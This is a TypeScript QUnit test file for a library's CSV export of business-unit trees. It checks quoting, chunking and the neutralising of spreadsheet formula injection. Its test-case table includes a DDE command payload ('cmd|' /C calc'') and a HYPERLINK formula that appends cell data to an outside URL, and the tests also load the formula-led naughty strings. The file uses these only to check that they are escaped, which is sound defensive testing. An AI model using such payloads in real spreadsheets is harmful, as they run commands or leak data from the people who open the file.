import { buildTree, type UnitRecord, type UnitTree } from "business-units";
import { type CsvOptions, csv, csvLevels, csvLevelsPieces, csvPieces } from "business-units/export";
import Papa from "papaparse";
import QUnit from "qunit";
import naughty from "../../data/csv/blns_formula_led.json" with { type: "json" };
import spectrum from "../../data/csv/csv_spectrum.json" with { type: "json" };
import { WORLD } from "./five-units.ts";
import { DOCUMENTED } from "./world.ts";

const HEAD = "id,parentId,name,description,path,accountId,createdAt,updatedAt,depth,size,row,index\r\n";
const LEVELS_HEAD = "id,parentId,description,path,accountId,createdAt,updatedAt,depth,size,row,index\r\n";

// A text, its cell, and its cell with `raw`.
const CELLS: [text: string, cell: string, raw: string][] = [
  ["plain", "plain", "plain"],
  ["", '""', '""'],
  ["a,b", '"a,b"', '"a,b"'],
  ['say "hi"', '"say ""hi"""', '"say ""hi"""'],
  ["a\r\nb", '"a\r\nb"', '"a\r\nb"'],
  ["a\nb", '"a\nb"', '"a\nb"'],
  ["a\rb", '"a\rb"', '"a\rb"'],
  [" a", '" a"', '" a"'],
  ["a ", '"a "', '"a "'],
  ["a;b", "a;b", "a;b"],
  ["'tis", "'tis", "'tis"],
  ["Zürich 東京 🏗️", "Zürich 東京 🏗️", "Zürich 東京 🏗️"],
  ["a=b", "a=b", "a=b"],
  ["=1+1", "'=1+1", "=1+1"],
  ["+47 22", "'+47 22", "+47 22"],
  ["-", "'-", "-"],
  ["@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"],
  ["\tx", "'\tx", '"\tx"'],
  ["\rx", '"\'\rx"', '"\rx"'],
  ["\nx", '"\'\nx"', '"\nx"'],
  ["\0x", "'\0x", "\0x"],
  ["＝1", "'＝1", "＝1"],
  ["＋1", "'＋1", "＋1"],
  ["－1", "'－1", "－1"],
  ["＠1", "'＠1", "＠1"],
  ["  =1", "'  =1", '"  =1"'],
  ["\u00a0\u3000=1", "'\u00a0\u3000=1", '"\u00a0\u3000=1"'],
  ['"=1"', '"\'""=1"""', '"""=1"""'],
  ["'=1", "''=1", "'=1"],
  ["''=1", "'''=1", "''=1"],
  ['=HYPERLINK("http://a.test?"&A1,"ok")', '"\'=HYPERLINK(""http://a.test?""&A1,""ok"")"', ""],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"],
];

/** Flat tables and tables with levels. */
export function exportingTables(): void {
  QUnit.module("csv", () => {
    QUnit.test("it has a head and one row a unit in preorder, each ended by CRLF", (assert) => {
      using tree = buildTree(WORLD);
      const rows = [
        "1,,Europe,,,,,,0,4,0,0",
        "11,1,Norway,,,,,,1,2,1,3",
        "111,11,Oslo,,,,,,2,1,2,2",
        "12,1,Sweden,,,,,,1,1,3,4",
        "2,,Asia,,,,,,0,1,4,1",
      ];
      assert.strictEqual(csv(tree), `${HEAD}${rows.join("\r\n")}\r\n`);
    });

    QUnit.test("it has every field, as the service sent it", (assert) => {
      using tree = buildTree(DOCUMENTED.autodesk);
      const [head = "", ...rows] = csv(tree).trimEnd().split("\r\n");
      const [first] = tree.toArray();
      assert.deepEqual(head.split(",").sort(), Object.keys(first ?? {}).sort());
      assert.deepEqual(parse(csv(tree)).slice(1), tree.toArray().map(texts));
      assert.strictEqual(rows.length, tree.size);
    });

    QUnit.test("ids are exact text", (assert) => {
      using tree = buildTree([{ id: 9223372036854775807n }, { id: "0012", parentId: "gone" }, { id: "1e5" }]);
      const rows = csv(tree).split("\r\n");
      assert.deepEqual(
        rows.slice(1, 4).map((row) => row.split(",").slice(0, 2)),
        [
          ["9223372036854775807", ""],
          ["0012", "gone"],
          ["1e5", ""],
        ],
      );
    });

    QUnit.test("a flat listing of iMocha's is a table too", (assert) => {
      using tree = buildTree(DOCUMENTED.imocha);
      assert.strictEqual(
        csv(tree),
        `${HEAD}164373,,Default BU 1,,,,2025-05-15T06:06:18.763,,0,1,0,0\r\n` +
          "164374,,Default BU 2,,,,2025-05-15T06:06:18.763,,0,1,1,1\r\n",
      );
      assert.true(csvLevels(tree).startsWith(`Level 1,${LEVELS_HEAD}Default BU 1,164373,`));
    });

    QUnit.test("a tree without units is a head", (assert) => {
      using tree = buildTree("{}");
      assert.deepEqual([csv(tree), csvLevels(tree)], [HEAD, LEVELS_HEAD]);
    });

    QUnit.test("bom begins the file with U+FEFF", (assert) => {
      using tree = buildTree(WORLD);
      assert.strictEqual(csv(tree, { bom: true }), `\ufeff${csv(tree)}`);
      assert.strictEqual(csvLevels(tree, { bom: true }), `\ufeff${csvLevels(tree)}`);
      assert.strictEqual(csv(tree, { bom: false }), csv(tree));
    });

    for (const [text, cell, raw] of CELLS) {
      QUnit.test(`the text ${JSON.stringify(text)} is a cell`, (assert) => {
        using tree = buildTree([{ id: "1", name: text, description: text }]);
        assert.strictEqual(csv(tree), `${HEAD}1,,${cell},${cell},,,,,0,1,0,0\r\n`);
        if (raw !== "")
          assert.strictEqual(csv(tree, { raw: true }), `${HEAD}1,,${raw},${raw},,,,,0,1,0,0\r\n`);
        assert.true(csvLevels(tree).includes(`\n${cell},1,,${cell},`));
      });
    }

    QUnit.test("an absent text is an empty cell, an empty one is two quotes", (assert) => {
      using tree = buildTree([{ id: "", name: "" }, { id: "1" }]);
      assert.strictEqual(csv(tree), `${HEAD}"",,"",,,,,,0,1,0,0\r\n1,,,,,,,,0,1,1,1\r\n`);
    });

    QUnit.test("all text fields are made harmless, ids too", (assert) => {
      const fields = ["id", "parentId", "name", "description", "path", "accountId", "createdAt", "updatedAt"];
      using tree = buildTree([{ id: "", ...Object.fromEntries(fields.map((field) => [field, "=1"])) }]);
      assert.strictEqual(csv(tree), `${HEAD}${"'=1,".repeat(8)}0,1,0,0\r\n`);
      assert.strictEqual(csv(tree, { raw: true }), `${HEAD}${"=1,".repeat(8)}0,1,0,0\r\n`);
    });

    QUnit.test("rows gives a window, cut to what there is", (assert) => {
      using tree = buildTree(WORLD);
      const window = (from: number, to: number) => ids(csv(tree, { rows: { from, to } }));
      assert.deepEqual(window(1, 3), ["11", "111"]);
      assert.deepEqual(window(-5, Number.POSITIVE_INFINITY), ["1", "11", "111", "12", "2"]);
      assert.deepEqual([window(3, 1), window(9, 12)], [[], []]);
    });

    QUnit.test("subtree gives a unit and everything below, by row or by id", (assert) => {
      using tree = buildTree(WORLD);
      for (const subtree of [1, "11"]) assert.deepEqual(ids(csv(tree, { subtree })), ["11", "111"]);
      assert.deepEqual(ids(csv(tree, { subtree: "2" })), ["2"]);
    });
  });

  QUnit.module("csvLevels", () => {
    QUnit.test("it has a column a level, then the other fields", (assert) => {
      using tree = buildTree(WORLD);
      const rows = [
        "Europe,,,1,,,,,,,0,4,0,0",
        "Europe,Norway,,11,1,,,,,,1,2,1,3",
        "Europe,Norway,Oslo,111,11,,,,,,2,1,2,2",
        "Europe,Sweden,,12,1,,,,,,1,1,3,4",
        "Asia,,,2,,,,,,,0,1,4,1",
      ];
      assert.strictEqual(csvLevels(tree), `Level 1,Level 2,Level 3,${LEVELS_HEAD}${rows.join("\r\n")}\r\n`);
    });

    QUnit.test("of a subtree or a window it has the levels above too, and none below", (assert) => {
      using tree = buildTree(WORLD);
      const rows = "Europe,Norway,Oslo,111,11,,,,,,2,1,2,2\r\n";
      const expected = `Level 1,Level 2,Level 3,${LEVELS_HEAD}${rows}`;
      for (const options of [{ subtree: "111" }, { rows: { from: 2, to: 3 } }]) {
        assert.strictEqual(csvLevels(tree, options), expected);
      }
      assert.strictEqual(csvLevels(tree, { subtree: "2" }), `Level 1,${LEVELS_HEAD}Asia,2,,,,,,,0,1,4,1\r\n`);
    });
  });

  QUnit.module("csvPieces", () => {
    QUnit.test("the pieces are the file", (assert) => {
      using tree = buildTree(Array.from({ length: 2_500 }, (_, n) => ({ id: `${n}`, name: `Unit ${n}` })));
      const options: CsvOptions = { bom: true, rows: { from: 7, to: 2_400 } };
      for (const [pieces, whole] of [
        [csvPieces, csv],
        [csvLevelsPieces, csvLevels],
      ] as const) {
        const parts = [...pieces(tree, options)];
        assert.strictEqual(parts.length, 4);
        assert.strictEqual(parts.join(""), whole(tree, options));
      }
    });

    QUnit.test("a piece ends with the row that makes it long", (assert) => {
      const name = "n".repeat(1_000);
      const parentOf = (n: number) => (n === 0 ? {} : { parentId: `${n - 1}` });
      using tree = buildTree(Array.from({ length: 200 }, (_, n) => ({ id: `${n}`, name, ...parentOf(n) })));
      for (const pieces of [csvPieces, csvLevelsPieces]) {
        for (const piece of pieces(tree)) {
          const rows = piece.slice(0, -2).split("\r\n");
          const last = rows.pop() ?? "";
          assert.true(
            piece.length - last.length - 2 < 64 * 1_024,
            `${piece.length} in ${rows.length + 1} rows`,
          );
        }
      }
    });

    QUnit.test("they cover 100 000 units, of which they ask for a thousand at a time", (assert) => {
      using tree = buildTree(
        JSON.stringify({
          business_units: Array.from({ length: 100_000 }, (_, n) => ({
            id: `${n}`,
            parent_id: n === 0 ? null : `${n >> 3}`,
            name: `Unit ${n}`,
          })),
        }),
      );
      const most = watchRows(tree);
      for (const pieces of [csvPieces, csvLevelsPieces]) {
        let lines = 0;
        for (const piece of pieces(tree)) lines += piece.split("\r\n").length - 1;
        assert.strictEqual(lines, 100_001);
      }
      assert.strictEqual(most(), 1_024);
    });
  });

  QUnit.module("a CSV parser", () => {
    QUnit.test("reads 100 000 generated cells back, neutralised and raw", (assert) => {
      const texts = Array.from({ length: 100_000 }, generator(7));
      using tree = buildTree(
        texts.slice(0, 50_000).map((name, n) => ({ id: `${n}`, name, description: texts[n + 50_000] ?? "" })),
      );
      for (const raw of [false, true]) assert.deepEqual(readBack(csv(tree, { raw }), raw), texts);
    });

    QUnit.test("reads the formula-led lines of the Big List of Naughty Strings back", (assert) => {
      assert.strictEqual(naughty.length, 27);
      using tree = buildTree(naughty.map((name, n) => ({ id: `${n}`, name, description: name })));
      const safe = csv(tree);
      for (const cell of cellsOf(safe)) assert.true(cell.startsWith("'"), JSON.stringify(cell));
      assert.deepEqual(readBack(safe, false), [...naughty, ...naughty]);
      assert.deepEqual(readBack(csv(tree, { raw: true }), true), [...naughty, ...naughty]);
    });

    for (const [name, { csv: file, records }] of Object.entries(spectrum)) {
      QUnit.test(`reads what csv-spectrum holds back: ${name}`, (assert) => {
        // One of the files has quotes that RFC 4180 does not know, and records that are not its own.
        const held = parse(file, true).flat();
        const values = [records].flat().flatMap((record) => Object.values<string>(record));
        if (name !== "location_coordinates") assert.deepEqual(held.slice(-values.length), values);
        using tree = buildTree(held.map((cell, n) => ({ id: `${n}`, name: cell, description: cell })));
        for (const raw of [false, true]) {
          assert.deepEqual(readBack(csv(tree, { raw }), raw), [...held, ...held]);
        }
      });
    }
  });
}

/** Gives the size of the largest list of units that the tree was asked for since. */
function watchRows(tree: UnitTree): () => number {
  let most = 0;
  const watched = (units: number) => {
    most = Math.max(most, units);
  };
  const { rows, toArray } = tree;
  tree.rows = (from, to) => {
    watched(to - from);
    return rows.call(tree, from, to);
  };
  tree.toArray = () => {
    watched(tree.size);
    return toArray.call(tree);
  };
  return () => most;
}

function texts(unit: UnitRecord): string[] {
  const { id, parentId, name, description, path, accountId, createdAt, updatedAt } = unit;
  const fields = [id, parentId, name, description, path, accountId, createdAt, updatedAt];
  return [...fields, unit.depth, unit.size, unit.row, unit.index].map((field) => String(field ?? ""));
}

/** The cells of each row; throws for what RFC 4180 does not know, unless it may be there. */
function parse(table: string, relaxed = false): string[][] {
  const { data, errors } = Papa.parse<string[]>(table, { delimiter: ",", fastMode: false });
  if (errors.length > 0 && !relaxed) throw new Error(JSON.stringify(errors[0]));
  // A line break ends the last row, and begins none.
  return table.endsWith("\n") ? data.slice(0, -1) : data;
}

function ids(table: string): string[] {
  return parse(table)
    .slice(1)
    .map(([id = ""]) => id);
}

/** All names and then all descriptions, as the parser reads them. */
function cellsOf(table: string): string[] {
  const rows = parse(table).slice(1);
  return [...rows.map((row) => row[2] ?? ""), ...rows.map((row) => row[3] ?? "")];
}

function readBack(table: string, raw: boolean): string[] {
  return cellsOf(table).map((cell) => (raw ? cell : withoutApostrophe(cell)));
}

/** The text that a cell was made of: one apostrophe less, where a formula follows. */
function withoutApostrophe(cell: string): string {
  return cell.replace(/^'(?=[\s"']*[=+\-@\t\r\n\0＝＋－＠])/, "");
}

/** Makes texts of the characters that tables are about; the same ones each time. */
function generator(seed: number): () => string {
  const alphabet = [..."ab, ;\"'=+-@\t\r\n\0＝＋－＠é東🏗\u00a0\u202e\ufeff"];
  let state = seed;
  const next = (below: number) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
  return () => Array.from({ length: 1 + next(8) }, () => alphabet[next(alphabet.length)]).join("");
}
